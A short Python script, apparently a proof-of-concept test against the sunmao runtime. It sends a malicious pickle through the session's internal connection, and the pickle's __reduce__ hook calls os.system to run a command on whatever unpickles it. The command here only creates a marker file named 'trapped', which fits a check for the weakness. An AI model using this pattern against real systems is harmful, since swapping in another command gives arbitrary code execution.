import os
import pickle
import time

from sunmao.runtime import session


class Trap:
    def __reduce__(self):
        return os.system, ('touch trapped',)


session._session.outbox._wire._connection.send_bytes(pickle.dumps(Trap()))
time.sleep(3600)
